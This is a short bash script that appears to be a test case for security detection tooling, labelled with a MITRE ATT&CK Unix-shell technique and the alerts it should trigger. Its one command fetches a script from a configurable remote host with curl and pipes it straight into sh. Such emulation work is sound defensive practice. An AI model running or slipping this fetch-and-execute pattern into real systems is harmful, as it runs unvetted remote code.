#!/usr/bin/env bash
# tactic: execution
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# behaviour: pipes a script fetched with curl straight into a shell (nothing written to disk)
# as: user
# needs: remote
# expect: decode_and_run, unusual_child
set -u
curl -fsSL -m 5 http://$SNTL_REMOTE/install.sh | sh
